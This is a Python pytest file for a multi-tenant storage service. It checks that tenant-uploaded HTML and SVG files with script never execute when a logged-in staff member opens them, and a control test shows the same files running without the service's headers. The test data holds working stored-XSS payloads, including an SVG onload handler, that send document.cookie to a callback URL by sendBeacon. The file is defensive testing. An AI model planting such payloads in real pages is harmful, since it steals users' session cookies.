"""A tenant's HTML or SVG with script, opened in headless Chromium by a staff member logged in
to the Studio: through public and signed URLs, of public and private buckets, with and without
inline delivery, on the delivery origin the API hands out and on the platform's own origin.
The script would retitle the page and call back to a receiver with the page's cookies; it never
runs. A control serves the same bytes without our headers and sees the script run."""

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from django.contrib.auth import get_user_model
from playwright.sync_api import Error as PlaywrightError

from authn.services import sessions as auth_sessions
from tenants import services
from tests.factories import PASSWORD
from tests.servers import AppServer, Receiver
from tests.studio.conftest import browser, login  # noqa: F401  (browser is a fixture)

HTML = (
    '<!doctype html><title>file</title><p id="shown">tenant page</p>'
    '<script>document.title = "ran"; navigator.sendBeacon("{callback}", document.cookie)</script>'
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"'
    " onload=\"navigator.sendBeacon('{callback}', 'onload')\">"
    '<text id="shown" x="10" y="30">tenant image</text>'
    '<script>document.title = "ran"; navigator.sendBeacon("{callback}", document.cookie)</script>'
    "</svg>"
)
FILES = {"page.html": ("text/html", HTML), "logo.svg": ("image/svg+xml", SVG)}
BUCKETS = {  # name: (public, inline_delivery)
    "site": (True, False),
    "pages": (True, True),
    "vault": (False, False),
    "vault-pages": (False, True),
}


@pytest.fixture
def receiver():
    server = Receiver()
    yield server
    server.close()


@pytest.fixture
def platform(committed):
    """uvicorn with a delivery origin: the same server under another host name (localhost),
    as a CDN or a second domain would be in production."""
    server = AppServer()
    server.delivery = f"http://localhost:{server.port}"
    server.env["STORAGE_DELIVERY_ORIGIN"] = server.delivery
    server.start()
    try:
        yield server
    finally:
        server.stop()


def open_url(page, url: str) -> str:
    """Navigate; "download:<name>" when the browser saves the file instead of showing it."""
    downloads = []
    page.on("download", lambda download: downloads.append(download))
    try:
        page.goto(url)
        return "rendered"
    except PlaywrightError as exc:
        if "Download is starting" not in str(exc):
            raise
    deadline = time.monotonic() + 10
    while not downloads and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    return f"download:{downloads[0].suggested_filename}"


def upload_everything(platform, receiver) -> list[tuple[str, str, str]]:
    """(bucket, key, url) for every file's signed URL and, in public buckets, public URL."""
    user = get_user_model().objects.create_user("dev@example.com", "dev@example.com", PASSWORD)
    services.org_create(actor=user, name="Org A", slug="org-a")
    token = auth_sessions.session_start(user=user).access
    api = httpx.Client(
        base_url=platform.url, headers={"Authorization": f"Bearer {token}"}, timeout=30
    )
    project = api.post("/api/v1/orgs/org-a/projects/", json={"name": "app"}).json()
    base = f"/api/v1/orgs/org-a/projects/{project['id']}/buckets"
    urls = []
    for bucket, (public, inline) in BUCKETS.items():
        created = api.post(
            base + "/", json={"name": bucket, "public": public, "inline_delivery": inline}
        )
        assert created.status_code == 201, created.text
        for key, (content_type, template) in FILES.items():
            content = template.replace("{callback}", receiver.url + f"/ran/{bucket}/{key}")
            stored = api.post(
                f"{base}/{bucket}/objects/",
                data={"key": key},
                files={"file": (key, content.encode(), content_type)},
            )
            assert stored.status_code == 201, stored.text
            signed = api.post(f"{base}/{bucket}/sign/", json={"key": key}).json()["url"]
            urls.append((bucket, key, signed))
            if public:
                urls.append((bucket, key, stored.json()["public_url"]))
    return urls


def test_a_tenants_script_never_runs_on_the_platforms_origin(platform, receiver, browser):  # noqa: F811
    staff = get_user_model().objects.create_superuser(
        "root@example.com", "root@example.com", PASSWORD
    )
    urls = upload_everything(platform, receiver)
    assert urls and all(url.startswith(platform.delivery + "/storage/v1/") for _, _, url in urls)

    context = browser.new_context()
    studio = context.new_page()
    login(studio, platform.url, staff.email, PASSWORD)  # the Studio's cookies are in the jar
    seen = {}
    for bucket, key, url in urls:
        for origin in (platform.delivery, platform.url):
            page = context.new_page()
            outcome = open_url(page, url.replace(platform.delivery, origin))
            if outcome == "rendered":
                assert page.title() != "ran", url
                assert "tenant" in page.text_content("#shown"), url
            seen[(bucket, key, origin)] = outcome
            page.close()

    for (bucket, key, origin), outcome in seen.items():
        opted_in = BUCKETS[bucket][1]
        if opted_in and origin == platform.delivery:
            assert outcome == "rendered", (bucket, key, origin)  # shown, sandboxed
        else:
            assert outcome == f"download:{key}", (bucket, key, origin)
    time.sleep(1)  # a beacon sent by a script that ran would have arrived by now
    assert receiver.requests == []


@pytest.fixture
def control_server():
    """Serves the payloads on loopback, as the platform does, without the platform's headers."""
    files = {}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            content_type, content = files[self.path.lstrip("/")]
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.files = files
    server.url = f"http://127.0.0.1:{server.server_port}"
    yield server
    server.shutdown()
    server.server_close()


def test_the_control_page_runs_the_same_script(receiver, control_server, browser):  # noqa: F811
    """The payloads do run when served without the platform's headers: the test above would
    see a script that ran."""
    page = browser.new_page()
    for key, (content_type, template) in FILES.items():
        content = template.replace("{callback}", receiver.url + f"/control/{key}")
        control_server.files[key] = (content_type, content.encode())
        page.goto(f"{control_server.url}/{key}")
        page.wait_for_function("document.title === 'ran'", timeout=5000)
    deadline = time.monotonic() + 5
    while len(receiver.requests) < 3 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert {r["path"] for r in receiver.requests} == {"/control/page.html", "/control/logo.svg"}
